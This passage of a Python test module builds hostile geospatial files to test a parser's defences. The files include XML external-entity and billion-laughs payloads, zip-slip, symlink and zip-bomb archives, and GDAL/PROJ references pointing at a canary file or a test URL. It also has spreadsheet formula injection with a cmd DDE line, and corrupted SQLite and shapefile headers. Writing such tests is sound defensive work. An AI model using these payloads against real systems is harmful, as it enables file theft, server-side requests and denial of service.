"""Files made to harm whoever opens them: each reads elsewhere, calls out, never ends, or swells.

Every one is a function that writes the file and returns its path. What it may reach for is given: a
canary that must never be opened, and the address of a port that must never be called.
"""

from __future__ import annotations

import io
import json
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable
from contextlib import closing
from dataclasses import dataclass
from pathlib import Path

import geopandas as gpd
import pandas as pd
from shapely import LineString

SESAME = "SESAME"
"""What stands in the canary, and must not be seen in any answer."""


@dataclass(frozen=True)
class Bait:
    """What a hostile file may reach for, and where it is to be written."""

    folder: Path
    canary: Path
    url: str

    def write(self, name: str, content: str | bytes) -> Path:
        """A file of that name and content."""
        path = self.folder / name
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        return path

    def pack(self, name: str, members: dict[str, str | bytes], **options: int) -> Path:
        """A zip archive."""
        path = self.folder / name
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for member, content in members.items():
                info = zipfile.ZipInfo(member)
                info.compress_type = zipfile.ZIP_DEFLATED
                info.external_attr = options.get(member, 0o644) << 16
                archive.writestr(info, content)
        return path


Write = Callable[[Bait], Path]
REFUSED: dict[str, Write] = {}
"""Those that must be refused, by name."""
INERT: dict[str, Write] = {}
"""Those that may be read, as long as what they reach for stays untouched."""


def refused(write: Write) -> Write:
    """Keep it among those to be refused."""
    REFUSED[write.__name__.strip("_")] = write
    return write


def inert(write: Write) -> Write:
    """Keep it among those that may be read."""
    INERT[write.__name__.strip("_")] = write
    return write


def streets() -> gpd.GeoDataFrame:
    """Two streets."""
    lines = [LineString([(120, 32.5), (120.1, 32.5)]), LineString([(120, 32.6), (120.1, 32.6)])]
    return gpd.GeoDataFrame({"id": ["a", "b"], "name": ["东街", "西街"]}, geometry=lines, crs=4326)


def collection(**members: object) -> str:
    """GeoJSON of two streets, and more members."""
    return json.dumps({**json.loads(streets().to_json(drop_id=True)), **members})


# -- pointing formats under other formats' names ---------------------------------------------------------------

ALL_SUFFIXES = (
    "geojson", "json", "gpkg", "shp", "zip", "gdb.zip", "fgb", "parquet", "kml", "kmz", "gpx", "dxf", "csv",
    "xlsx", "osm.pbf", "tif",
)  # fmt: skip


def _vrt(bait: Bait) -> str:
    return (
        f"<OGRVRTDataSource><OGRVRTLayer name='l'><SrcDataSource>{bait.canary}</SrcDataSource>"
        "</OGRVRTLayer></OGRVRTDataSource>"
    )


def _named(kind: str, suffix: str, content: Callable[[Bait], str]) -> None:
    def write(bait: Bait) -> Path:
        return bait.write(f"a.{suffix}", content(bait))

    write.__name__ = f"{kind}_as_{suffix.replace('.', '_')}"
    refused(write)


def _gdalg(bait: Bait) -> str:
    return json.dumps(
        {"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {bait.canary}"}
    )


def _wfs(bait: Bait) -> str:
    return f"<OGRWFSDataSource><URL>{bait.url}wfs?</URL></OGRWFSDataSource>"


def _wms(bait: Bait) -> str:
    return (
        f"<GDAL_WMS><Service name='WMS'><ServerUrl>{bait.url}</ServerUrl></Service><DataWindow>"
        "<SizeX>10</SizeX><SizeY>10</SizeY></DataWindow><BandsCount>1</BandsCount></GDAL_WMS>"
    )


def _raster_vrt(bait: Bait) -> str:
    return (
        "<VRTDataset rasterXSize='2' rasterYSize='2'><VRTRasterBand dataType='Byte' band='1'>"
        f"<SimpleSource><SourceFilename>{bait.canary}</SourceFilename></SimpleSource>"
        "</VRTRasterBand></VRTDataset>"
    )


for _suffix in ALL_SUFFIXES:
    _named("vrt", _suffix, _vrt)
for _suffix in ("json", "geojson", "gpkg", "tif"):
    _named("gdalg", _suffix, _gdalg)
for _suffix in ("kml", "gpx", "json", "gpkg"):
    _named("wfs", _suffix, _wfs)
for _suffix in ("tif", "geojson"):
    _named("wms", _suffix, _wms)
    _named("raster_vrt", _suffix, _raster_vrt)
_named(
    "service_description", "json", lambda bait: json.dumps({"type": "Service", "href": bait.url})
)
_named("esri_service", "json", lambda bait: json.dumps({"spatialReference": {"wkid": 4326}, "url": bait.url, "features": []}))  # fmt: skip
_named("topojson_link", "json", lambda bait: json.dumps({"type": "Topology", "objects": {}, "href": bait.url}))  # fmt: skip
_named("stac_assets", "json", lambda bait: json.dumps({"stac_version": "1.0.0", "type": "Catalog", "links": [{"href": bait.url}]}))  # fmt: skip
_named("tilejson", "json", lambda bait: json.dumps({"tilejson": "2.2.0", "tiles": [bait.url]}))


# -- GeoJSON ----------------------------------------------------------------------------------------------------


def _crs_by(kind: str, properties: Callable[[Bait], dict[str, str]]) -> None:
    def write(bait: Bait) -> Path:
        stated = {"type": kind.partition("_")[0], "properties": properties(bait)}
        return bait.write("a.geojson", collection(crs=stated))

    write.__name__ = f"crs_{kind}"
    (refused if kind.startswith("link") else inert)(write)


_crs_by("link_http", lambda bait: {"href": bait.url, "type": "proj4"})
_crs_by("link_file", lambda bait: {"href": str(bait.canary), "type": "esriwkt"})
_crs_by("link_file_url", lambda bait: {"href": bait.canary.as_uri()})
_crs_by("name_http", lambda bait: {"name": bait.url + "crs.wkt"})
_crs_by("name_file", lambda bait: {"name": str(bait.canary)})
_crs_by("name_init_file", lambda bait: {"name": f"+init={bait.canary}:1"})
_crs_by("name_grid", lambda bait: {"name": f"+proj=longlat +nadgrids={bait.canary} +type=crs"})
_crs_by("name_pipeline", lambda bait: {"name": f"+proj=pipeline +step +proj=hgridshift +grids={bait.canary}"})  # fmt: skip
_crs_by("name_network_grid", lambda bait: {"name": f"+proj=longlat +nadgrids={bait.url}grid.tif"})


def _wkt_with_grid(bait: Bait) -> str:
    return (
        'PROJCS["x",GEOGCS["g",DATUM["d",SPHEROID["WGS 84",6378137,298.257223563]],PRIMEM["Greenwich",0],'
        'UNIT["degree",0.0174532925199433]],PROJECTION["Transverse_Mercator"],'
        'PARAMETER["central_meridian",120],PARAMETER["scale_factor",1],UNIT["metre",1],'
        f'EXTENSION["PROJ4","+proj=tmerc +lon_0=120 +k=1 +ellps=GRS80 +nadgrids={bait.canary} +type=crs"]]'
    )


_crs_by("name_wkt_grid", lambda bait: {"name": _wkt_with_grid(bait)})


@refused
def json_nested_without_end(bait: Bait) -> Path:
    return bait.write("a.geojson", '{"type":' + "[" * 2_000_000)


@inert
def json_nested_properties(bait: Bait) -> Path:
    deep = '{"a":' * 500 + "1" + "}" * 500
    text = collection().replace('"name": "\\u4e1c\\u8857"', f'"name": {deep}')
    return bait.write("a.geojson", text)


@inert
def json_nested_collections(bait: Bait) -> Path:
    shape = {"type": "Point", "coordinates": [120, 32]}
    for _ in range(300):
        shape = {"type": "GeometryCollection", "geometries": [shape]}
    features = [{"type": "Feature", "properties": {}, "geometry": shape}]
    return bait.write("a.geojson", json.dumps({"type": "FeatureCollection", "features": features}))


@refused
def json_number_of_a_million_digits(bait: Bait) -> Path:
    return bait.write("a.geojson", collection().replace("120.1", "1" * 1_000_000, 1))


@inert
def json_numbers_past_all_bounds(bait: Bait) -> Path:
    return bait.write("a.geojson", collection().replace("120.1", "1e999").replace("32.6", "-1e308"))


@inert
def json_half_characters_and_doubled_keys(bait: Bait) -> Path:
    text = collection().replace('"name": "\\u4e1c\\u8857"', '"name": "\\ud800", "id": {}, "id": [1], "geometry": "\\udfff"')  # fmt: skip
    return bait.write("a.geojson", text)


@refused
def json_of_a_hundred_thousand_columns(bait: Bait) -> Path:
    properties = {f"k{number}": number for number in range(100_000)}
    features = [{"type": "Feature", "properties": properties, "geometry": None}]
    return bait.write("a.geojson", json.dumps({"type": "FeatureCollection", "features": features}))


@refused
def json_where_every_row_has_its_own_columns(bait: Bait) -> Path:
    features = [
        {"type": "Feature", "properties": {f"k{row}_{n}": 1 for n in range(20)}, "geometry": None}
        for row in range(20_000)
    ]
    return bait.write("a.geojson", json.dumps({"type": "FeatureCollection", "features": features}))


# -- XML --------------------------------------------------------------------------------------------------------


def _kml(body: str, head: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{head}<kml xmlns="http://www.opengis.net/kml/2.2"'
        f' xmlns:xi="http://www.w3.org/2001/XInclude"><Document>{body}<Placemark><name>x</name><LineString>'
        "<coordinates>120,32 120.1,32</coordinates></LineString></Placemark></Document></kml>"
    )


def _lol(root: str) -> str:
    layers = "".join(f'<!ENTITY l{number} "{f"&l{number - 1};" * 10}">' for number in range(1, 10))
    return f'<!DOCTYPE {root} [<!ENTITY l0 "{"lol" * 10}">{layers}]>'


def _gpx(body: str = "", head: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{head}<gpx version="1.1">{body}<trk><trkseg><trkpt lat="32" lon="120"/>'
        '<trkpt lat="32" lon="120.1"/></trkseg></trk></gpx>'
    )


@inert
def kml_network_link_http(bait: Bait) -> Path:
    link = f"<NetworkLink><Link><href>{bait.url}more.kml</href></Link></NetworkLink>"
    return bait.write("a.kml", _kml(link))


@inert
def kml_network_link_file(bait: Bait) -> Path:
    link = f"<NetworkLink><Link><href>{bait.canary}</href></Link></NetworkLink>"
    return bait.write("a.kml", _kml(link))


@inert
def kml_icon_model_and_style_links(bait: Bait) -> Path:
    styles = (
        f"<Style><IconStyle><Icon><href>{bait.url}i.png</href></Icon></IconStyle></Style>"
        f"<GroundOverlay><Icon><href>{bait.url}o.png</href></Icon></GroundOverlay>"
        f"<Placemark><styleUrl>{bait.url}s.kml#s</styleUrl><Model><Link><href>{bait.url}m.dae</href></Link>"
        "</Model></Placemark>"
    )
    return bait.write("a.kml", _kml(styles))


@inert
def kml_xinclude(bait: Bait) -> Path:
    return bait.write("a.kml", _kml(f'<xi:include href="{bait.canary.as_uri()}" parse="text"/>'))


@inert
def kml_stylesheet_and_schema(bait: Bait) -> Path:
    text = _kml("", f'<?xml-stylesheet href="{bait.url}s.xsl" type="text/xsl"?>')
    return bait.write("a.kml", text.replace("<kml ", f'<kml xmlns:s="http://www.w3.org/2001/XMLSchema-instance" s:schemaLocation="{bait.url} {bait.url}k.xsd" '))  # fmt: skip


@inert
def kml_external_dtd(bait: Bait) -> Path:
    return bait.write("a.kml", _kml("", f'<!DOCTYPE kml SYSTEM "{bait.url}kml.dtd">'))


@refused
def kml_entity_of_a_file(bait: Bait) -> Path:
    head = f'<!DOCTYPE kml [<!ENTITY x SYSTEM "{bait.canary.as_uri()}">]>'
    return bait.write("a.kml", _kml("<name>&x;</name>", head))


@refused
def kml_entity_of_an_address(bait: Bait) -> Path:
    head = f'<!DOCTYPE kml [<!ENTITY x SYSTEM "{bait.url}">]>'
    return bait.write("a.kml", _kml("<name>&x;</name>", head))


@refused
def kml_parameter_entity(bait: Bait) -> Path:
    head = f'<!DOCTYPE kml [<!ENTITY % x SYSTEM "{bait.url}x.dtd"> %x;]>'
    return bait.write("a.kml", _kml("", head))


@refused
def kml_billion_laughs(bait: Bait) -> Path:
    return bait.write("a.kml", _kml("<name>&l9;</name>", _lol("kml")))


@refused
def kml_quadratic_entity(bait: Bait) -> Path:
    head = f'<!DOCTYPE kml [<!ENTITY x "{"x" * 100_000}">]>'
    return bait.write("a.kml", _kml(f"<name>{'&x;' * 50_000}</name>", head))


@refused
def kml_entity_in_utf16(bait: Bait) -> Path:
    head = f'<!DOCTYPE kml [<!ENTITY x SYSTEM "{bait.canary.as_uri()}">]>'
    text = _kml("<name>&x;</name>", head).replace("UTF-8", "UTF-16")
    return bait.write("a.kml", text.encode("utf-16"))


@refused
def kml_nested_without_end(bait: Bait) -> Path:
    return bait.write("a.kml", _kml("<Folder>" * 1_000_000))


@refused
def kml_of_a_million_attributes(bait: Bait) -> Path:
    return bait.write("a.kml", _kml("<x " + " ".join(f'a{n}="1"' for n in range(20_000)) + "<"))  # fmt: skip


@refused
def gpx_entity_of_a_file(bait: Bait) -> Path:
    head = f'<!DOCTYPE gpx [<!ENTITY x SYSTEM "{bait.canary.as_uri()}">]>'
    return bait.write("a.gpx", _gpx("<metadata><name>&x;</name></metadata>", head))


@refused
def gpx_billion_laughs(bait: Bait) -> Path:
    return bait.write("a.gpx", _gpx("<metadata><name>&l9;</name></metadata>", _lol("gpx")))


@inert
def gpx_links(bait: Bait) -> Path:
    return bait.write("a.gpx", _gpx(f'<metadata><link href="{bait.url}"/></metadata>'))


# -- archives ---------------------------------------------------------------------------------------------------


@refused
def kmz_inside_kmz(bait: Bait) -> Path:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("doc.kml", _kml(""))
    return bait.pack("a.kmz", {"doc.kml": _kml(""), "more.kmz": inner.getvalue()})


@refused
def kmz_that_leads_out(bait: Bait) -> Path:
    return bait.pack("a.kmz", {"doc.kml": _kml(""), "../../outside.txt": "x"})


@refused
def kmz_from_the_root(bait: Bait) -> Path:
    return bait.pack("a.kmz", {"doc.kml": _kml(""), f"{bait.folder}/outside.txt": "x"})


@refused
def kmz_to_a_drive(bait: Bait) -> Path:
    return bait.pack("a.kmz", {"doc.kml": _kml(""), "..\\..\\outside.txt": "x", "C:\\x.txt": "x"})


@refused
def kmz_link_to_a_file(bait: Bait) -> Path:
    return bait.pack("a.kmz", {"doc.kml": str(bait.canary)}, **{"doc.kml": 0o120777})


@refused
def kmz_that_swells(bait: Bait) -> Path:
    return bait.pack("a.kmz", {"doc.kml": _kml("") + " " * (64 << 20)})


@refused
def kmz_of_many_members(bait: Bait) -> Path:
    return bait.pack("a.kmz", {"doc.kml": _kml(""), **{f"i/{n}.png": b"" for n in range(12_000)}})


@refused
def kmz_with_a_password(bait: Bait) -> Path:
    path = bait.pack("a.kmz", {"doc.kml": _kml("")})
    content = bytearray(path.read_bytes())
    for magic, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(magic) + at] |= 1
    return bait.write("a.kmz", bytes(content))


@refused
def kmz_that_lies_about_its_size(bait: Bait) -> Path:
    path = bait.pack("a.kmz", {"doc.kml": _kml("") + " " * (32 << 20)})
    content = bytearray(path.read_bytes())
    for magic, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<I", content, content.index(magic) + at, 1000)
    return bait.write("a.kmz", bytes(content))


@refused
def kmz_of_overlapping_members(bait: Bait) -> Path:
    path = bait.pack("a.kmz", {"doc.kml": _kml("") + " " * (1 << 20), "b.kml": "x"})
    content = bytearray(path.read_bytes())
    second = content.rindex(b"PK\x01\x02")
    struct.pack_into("<I", content, second + 42, 0)  # where the second member is: in the first
    return bait.write("a.kmz", bytes(content))


def _shapefile(bait: Bait, **options: object) -> dict[str, bytes]:
    folder = bait.folder / "parts"
    folder.mkdir()
    streets().to_file(folder / "a.shp", driver="ESRI Shapefile", encoding="UTF-8", **options)
    parts = {part.name: part.read_bytes() for part in folder.iterdir()}
    for part in folder.iterdir():
        part.unlink()
    folder.rmdir()
    return parts


@refused
def zip_inside_zip(bait: Bait) -> Path:
    return bait.pack("a.zip", {**_shapefile(bait), "b.zip": b"PK\x05\x06" + bytes(18)})


@refused
def zip_that_leads_out(bait: Bait) -> Path:
    return bait.pack("a.zip", {f"../{name}": part for name, part in _shapefile(bait).items()})


@refused
def zip_link_to_a_file(bait: Bait) -> Path:
    parts = {**_shapefile(bait), "a.dbf": str(bait.canary).encode()}
    return bait.pack("a.zip", parts, **{"a.dbf": 0o120777})


@refused
def zip_that_swells(bait: Bait) -> Path:
    return bait.pack("a.zip", {**_shapefile(bait), "a.dbf": bytes(64 << 20)})


@refused
def zip_of_two_of_a_name(bait: Bait) -> Path:
    path = bait.pack("a.zip", _shapefile(bait))
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("A.SHP", b"\x00\x00\x27\x0a" + bytes(96))
    return path


@refused
def zip_with_a_foreign_packing(bait: Bait) -> Path:
    path = bait.pack("a.zip", _shapefile(bait))
    content = bytearray(path.read_bytes())
    at = -1
    for magic, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        while (at := content.find(magic, at + 1)) >= 0:
            struct.pack_into("<H", content, at + offset, 97)
    return bait.write("a.zip", bytes(content))


@refused
def zip_of_a_vrt_beside_a_shapefile_s_name(bait: Bait) -> Path:
    return bait.pack("a.zip", {"a.shp": _vrt(bait), "a.shx": b"", "a.dbf": b""})


@refused
def geodatabase_that_leads_out(bait: Bait) -> Path:
    return bait.pack("a.gdb.zip", {"../a.gdb/a00000001.gdbtable": bytes(64)})


@refused
def geodatabase_of_nothing(bait: Bait) -> Path:
    members = {f"a.gdb/a{n:08x}.gdb{kind}": b"\xff" * 4096 for n in range(1, 9) for kind in ("table", "tablx")}  # fmt: skip
    return bait.pack("a.gdb.zip", members)


@refused
def geodatabase_that_swells(bait: Bait) -> Path:
    return bait.pack("a.gdb.zip", {"a.gdb/a00000001.gdbtable": bytes(64 << 20)})


# -- shapefiles -------------------------------------------------------------------------------------------------


def _loose(bait: Bait, parts: dict[str, bytes]) -> Path:
    for name, content in parts.items():
        bait.write(name, content)
    return bait.folder / "a.shp"


@inert
def shapefile_system_with_a_grid(bait: Bait) -> Path:
    return _loose(bait, {**_shapefile(bait), "a.prj": _wkt_with_grid(bait).encode()})


@inert
def shapefile_system_of_an_address(bait: Bait) -> Path:
    return _loose(bait, {**_shapefile(bait), "a.prj": bait.url.encode()})


@inert
def shapefile_encoding_of_a_file(bait: Bait) -> Path:
    return _loose(bait, {**_shapefile(bait), "a.cpg": str(bait.canary).encode()})


@inert
def shapefile_with_a_vrt_and_metadata_beside_it(bait: Bait) -> Path:
    more = {"a.vrt": _vrt(bait).encode(), "a.shp.xml": _vrt(bait).encode(), "a.qix": b"\xff" * 100}
    return _loose(bait, {**_shapefile(bait), **more})


@refused
def shapefile_with_a_link_as_table(bait: Bait) -> Path:
    path = _loose(bait, _shapefile(bait))
    (bait.folder / "a.dbf").unlink()
    (bait.folder / "a.dbf").symlink_to("/dev/zero")
    return path


def _lying(part: str, form: str, at: int, value: int) -> None:
    def write(bait: Bait) -> Path:
        parts = _shapefile(bait)
        content = bytearray(parts[f"a.{part}"])
        struct.pack_into(form, content, at, value)
        return _loose(bait, {**parts, f"a.{part}": bytes(content)})

    write.__name__ = f"shapefile_lying_at_{at}_of_its_{part}"
    refused(write)


_lying("dbf", "<I", 4, 0x7FFFFFFF)  # rows
_lying("dbf", "<H", 8, 0xFFFF)  # where they start
_lying("dbf", "<H", 10, 0xFFFF)  # how long one is
_lying("shx", ">i", 100, 0x3FFFFFFF)  # where the first shape is
_lying("shx", ">i", 104, 0x3FFFFFFF)  # how long it is


def _shape_of(count: int, at: int, name: str) -> None:
    def write(bait: Bait) -> Path:
        parts = _shapefile(bait)
        content = bytearray(parts["a.shp"])
        struct.pack_into("<i", content, 100 + 8 + at, count)
        return _loose(bait, {**parts, "a.shp": bytes(content)})

    write.__name__ = name
    inert(write)


_shape_of(0x7FFFFFFF, 36, "shapefile_with_two_thousand_million_parts")
_shape_of(0x7FFFFFFF, 40, "shapefile_with_two_thousand_million_points")
_shape_of(-5, 40, "shapefile_with_minus_five_points")


# -- databases --------------------------------------------------------------------------------------------------


def _database(name: str, *statements: str, unsafe: bool = False, verdict: str = "refused") -> None:
    def write(bait: Bait) -> Path:
        path = bait.folder / "a.gpkg"
        streets().to_file(path, driver="GPKG", layer="streets")
        with closing(sqlite3.connect(path)) as database:
            database.execute("PRAGMA recursive_triggers = OFF")
            if unsafe:
                database.execute("PRAGMA writable_schema = ON")
            for statement in statements:
                database.execute(statement.replace("CANARY", str(bait.canary)))
            database.commit()
        return path

    write.__name__ = f"geopackage_with_{name}"
    (refused if verdict == "refused" else inert)(write)


_ENDLESS = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c"
_database("a_view", "CREATE VIEW v AS SELECT * FROM streets")
_database(
    "an_endless_view", f"CREATE VIEW endless AS {_ENDLESS}",
    "INSERT INTO gpkg_contents (table_name, data_type, identifier, srs_id) VALUES ('endless', 'attributes', 'e', 0)",
)  # fmt: skip
_database(
    "a_view_in_the_place_of_a_layer", "ALTER TABLE streets RENAME TO hidden",
    f"CREATE VIEW streets AS SELECT * FROM hidden WHERE fid IN ({_ENDLESS})",
)  # fmt: skip
_database(
    "a_foreign_trigger", "CREATE TRIGGER t AFTER INSERT ON streets BEGIN DELETE FROM streets; END"
)
_database("a_trigger_on_the_contents", "CREATE TRIGGER t AFTER UPDATE ON gpkg_contents BEGIN DELETE FROM streets; END")  # fmt: skip
_database("a_virtual_table", "CREATE VIRTUAL TABLE words USING fts5(word)")
_database("a_virtual_table_called_an_index", "CREATE VIRTUAL TABLE rtree_streets USING fts5(word)")
_database(
    "a_virtual_table_behind_a_remark",
    "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES "
    "('table', 'hidden', 'hidden', 0, 'CREATE/**/VIRTUAL TABLE hidden USING dbstat')",
    unsafe=True,
)
_database(
    "a_virtual_table_on_a_page",
    "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES "
    "('table', 'hidden', 'hidden', 3, 'CREATE /* x */ VIRTUAL TABLE hidden USING dbstat')",
    unsafe=True,
)
_database("a_computed_column", "CREATE TABLE t (a, b GENERATED ALWAYS AS (hex(zeroblob(1000000000))) VIRTUAL)")  # fmt: skip
_database(
    "a_schema_that_is_no_sql",
    "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES ('table', 'x', 'x', 3, 'CREATE NONSENSE')",
    unsafe=True,
)  # fmt: skip
_database("a_system_of_a_file", "UPDATE gpkg_spatial_ref_sys SET definition = 'CANARY', organization = 'x'", verdict="inert")  # fmt: skip
_database("a_system_of_an_init_file", "UPDATE gpkg_spatial_ref_sys SET definition = '+init=CANARY:1', organization = 'x'", verdict="inert")  # fmt: skip
_database(
    "extensions_that_name_a_library",
    "CREATE TABLE IF NOT EXISTS gpkg_extensions (table_name TEXT, column_name TEXT, extension_name TEXT, definition TEXT, scope TEXT)",
    "INSERT INTO gpkg_extensions VALUES (NULL, NULL, 'CANARY', 'CANARY', 'read-write')",
    verdict="inert",
)
_database(
    "a_count_that_lies",
    "UPDATE gpkg_ogr_contents SET feature_count = 9000000000000000",
    verdict="inert",
)
_database("no_table_behind_its_contents", "DROP TABLE streets")
_database("an_envelope_that_lies", "UPDATE gpkg_contents SET min_x = 'CANARY', max_x = 1e308", verdict="inert")  # fmt: skip


@refused
def geopackage_that_is_another_database(bait: Bait) -> Path:
    path = bait.folder / "a.gpkg"
    with closing(sqlite3.connect(path)) as database:
        database.execute("CREATE TABLE t (x)")
        database.commit()
    return path


@refused
def geopackage_of_pages_that_circle(bait: Bait) -> Path:
    path = bait.folder / "a.gpkg"
    streets().to_file(path, driver="GPKG", layer="streets")
    content = bytearray(path.read_bytes())
    for page in range(1, len(content) // 4096):
        if content[page * 4096] == 13:  # a leaf becomes an inner page that points to itself
            content[page * 4096] = 5
            struct.pack_into(">I", content, page * 4096 + 8, page + 1)
    return bait.write("a.gpkg", bytes(content))


# -- workbooks and tables ---------------------------------------------------------------------------------------


def _workbook(bait: Bait) -> dict[str, bytes]:
    path = bait.folder / "b.xlsx"
    pd.DataFrame({"编号": ["a"], "经度": [120.0], "纬度": [32.5]}).to_excel(path, index=False)
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    path.unlink()
    return parts


_SHEET = "xl/worksheets/sheet1.xml"


@refused
def workbook_entity_of_a_file(bait: Bait) -> Path:
    parts = _workbook(bait)
    head = f'<!DOCTYPE x [<!ENTITY x SYSTEM "{bait.canary.as_uri()}">]>'.encode()
    return bait.pack("a.xlsx", {**parts, _SHEET: b'<?xml version="1.0"?>' + head + parts[_SHEET].split(b"?>")[-1]})  # fmt: skip


@refused
def workbook_billion_laughs(bait: Bait) -> Path:
    parts = _workbook(bait)
    text = f"<?xml version='1.0'?>{_lol('sst')}<sst><si><t>&l9;</t></si></sst>"
    return bait.pack("a.xlsx", {**parts, "xl/sharedStrings.xml": text})


@inert
def workbook_formulas(bait: Bait) -> Path:
    import openpyxl

    book = openpyxl.Workbook()
    book.active.append(["id", "经度", "纬度", "name"])
    for formula in (f'=WEBSERVICE("{bait.url}")', f"='{bait.canary}'!A1", "=cmd|' /c calc'!A0", f'=HYPERLINK("{bait.url}")'):  # fmt: skip
        book.active.append(["a", 120, 32, formula])
    book.save(bait.folder / "a.xlsx")
    return bait.folder / "a.xlsx"


@inert
def workbook_links_to_another(bait: Bait) -> Path:
    parts = _workbook(bait)
    link = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" Target="{bait.canary.as_uri()}" TargetMode="External"/></Relationships>'
    return bait.pack("a.xlsx", {**parts, "xl/externalLinks/_rels/externalLink1.xml.rels": link, "xl/connections.xml": f"<connections><connection sourceFile='{bait.url}'/></connections>"})  # fmt: skip


@inert
def workbook_that_claims_to_be_huge(bait: Bait) -> Path:
    parts = _workbook(bait)
    sheet = parts[_SHEET].replace(b'ref="A1:C2"', b'ref="A1:XFD1048576"')
    return bait.pack("a.xlsx", {**parts, _SHEET: sheet})


@inert
def workbook_with_a_cell_at_the_far_end(bait: Bait) -> Path:
    parts = _workbook(bait)
    sheet = parts[_SHEET].replace(b"</sheetData>", b'<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>')  # fmt: skip
    return bait.pack("a.xlsx", {**parts, _SHEET: sheet})


@refused
def workbook_with_a_cell_in_the_last_column(bait: Bait) -> Path:
    parts = _workbook(bait)
    rows = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(3, 3000))
    sheet = parts[_SHEET].replace(b"</sheetData>", rows.encode() + b"</sheetData>")
    return bait.pack("a.xlsx", {**parts, _SHEET: sheet})


@refused
def workbook_that_swells(bait: Bait) -> Path:
    parts = _workbook(bait)
    return bait.pack("a.xlsx", {**parts, "xl/sharedStrings.xml": b"<sst>" + bytes(64 << 20)})


@refused
def workbook_of_merged_cells_without_end(bait: Bait) -> Path:
    parts = _workbook(bait)
    merged = "<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 50_000 + "</mergeCells>"
    sheet = parts[_SHEET].replace(b"</sheetData>", b"</sheetData>" + merged.encode())
    return bait.pack("a.xlsx", {**parts, _SHEET: sheet})


@refused
def workbook_of_1997(bait: Bait) -> Path:
    return bait.write("a.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))


@inert
def table_with_a_vrt_and_types_beside_it(bait: Bait) -> Path:
    bait.write("a.vrt", _vrt(bait))
    bait.write("a.csvt", '"WKT","String"')
    return bait.write("a.csv", "id,经度,纬度\n1,120,32\n")


@inert
def table_of_formulas_and_paths(bait: Bait) -> Path:
    return bait.write("a.csv", f"id,name,WKT\n1,=WEBSERVICE(\"{bait.url}\"),POINT (1 2)\n2,{bait.canary},/vsicurl/{bait.url}\n")  # fmt: skip


@inert
def table_of_endless_brackets(bait: Bait) -> Path:
    text = "GEOMETRYCOLLECTION (" * 50_000
    return bait.write("a.csv", f"id,WKT\n1,{text}\n2,POINT (1 2)\n3,POINT (1 2)\n")


@refused
def table_of_a_million_columns(bait: Bait) -> Path:
    return bait.write("a.csv", ",".join(f"c{n}" for n in range(1_000_000)) + "\n" + "," * 999_999)


@inert
def table_of_one_endless_quotation(bait: Bait) -> Path:
    return bait.write("a.csv", 'id,经度,纬度\n1,120,32\n2,"' + "x" * (4 << 20))


@refused
def table_that_is_a_program(bait: Bait) -> Path:
    return bait.write("a.csv", b"\x7fELF" + bytes(range(256)) * 20)


# -- the rest ---------------------------------------------------------------------------------------------------


def _dxf(entities: str, blocks: str = "") -> str:
    return (
        f"0\nSECTION\n2\nBLOCKS\n{blocks}0\nENDSEC\n0\nSECTION\n2\nENTITIES\n{entities}"
        "0\nLINE\n8\nROADS\n10\n0\n20\n0\n11\n5\n21\n5\n0\nENDSEC\n0\nEOF\n"
    )


@inert
def drawing_of_blocks_in_blocks(bait: Bait) -> Path:
    blocks = ""
    for number in range(1, 12):
        inserts = f"0\nINSERT\n8\n0\n2\nB{number - 1}\n10\n0\n20\n0\n" * 10
        inside = inserts if number > 1 else "0\nLINE\n8\n0\n10\n0\n20\n0\n11\n1\n21\n1\n"
        blocks += f"0\nBLOCK\n8\n0\n2\nB{number}\n10\n0\n20\n0\n{inside}0\nENDBLK\n"
    return bait.write("a.dxf", _dxf("0\nINSERT\n8\nROADS\n2\nB11\n10\n0\n20\n0\n", blocks))


@refused
def drawing_of_repeated_blocks(bait: Bait) -> Path:
    insert = "0\nINSERT\n8\n0\n2\nB\n10\n0\n20\n0\n70\n30000\n71\n30000\n"
    block = (
        "0\nBLOCK\n8\n0\n2\nB\n10\n0\n20\n0\n0\nLINE\n8\n0\n10\n0\n20\n0\n11\n1\n21\n1\n0\nENDBLK\n"
    )
    return bait.write("a.dxf", _dxf(insert, block))


@inert
def drawing_that_refers_to_another(bait: Bait) -> Path:
    block = f"0\nBLOCK\n8\n0\n2\nX\n70\n4\n10\n0\n20\n0\n1\n{bait.canary}\n0\nENDBLK\n"
    image = f"0\nIMAGE\n8\n0\n10\n0\n20\n0\n1\n{bait.url}\n"
    return bait.write("a.dxf", _dxf(image + "0\nINSERT\n8\nROADS\n2\nX\n10\n0\n20\n0\n", block))


@inert
def drawing_of_a_spline_without_end(bait: Bait) -> Path:
    spline = "0\nSPLINE\n8\nROADS\n70\n8\n71\n2147483647\n72\n2147483647\n73\n2147483647\n"
    return bait.write("a.dxf", _dxf(spline))


def _flatgeobuf(name: str, at: int, form: str, value: int) -> None:
    def write(bait: Bait) -> Path:
        path = bait.folder / "a.fgb"
        streets().to_file(path, driver="FlatGeobuf")
        content = bytearray(path.read_bytes())
        struct.pack_into(form, content, at, value)
        return bait.write("a.fgb", bytes(content))

